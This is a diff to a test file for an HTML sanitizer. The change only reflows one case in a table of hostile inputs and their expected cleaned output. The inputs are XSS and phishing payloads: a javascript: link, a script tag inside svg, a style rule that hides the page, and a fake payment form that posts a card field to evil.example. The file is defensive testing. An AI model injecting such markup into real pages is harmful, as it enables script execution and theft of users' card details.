@@ -8,7 +8,10 @@ describe('sanitizeHtml', () => {
     ['<a href="javascript:alert(1)">go</a>', '<a>go</a>'],
     ['<p>Plain <em>text</em></p>', '<p>Plain <em>text</em></p>'],
     ['<svg><script>alert(1)</script></svg>', ''],
-    ['<p>Pay here</p><form action="https://evil.example"><input name="card"><button>Pay</button></form>', '<p>Pay here</p>Pay'],
+    [
+      '<p>Pay here</p><form action="https://evil.example"><input name="card"><button>Pay</button></form>',
+      '<p>Pay here</p>Pay',
+    ],
     ['<style>body{display:none}</style><p>Hi</p>', '<p>Hi</p>'],
   ])('%s → %s', async (input, expected) => {
     expect(await sanitizeHtml(input)).toBe(expected);
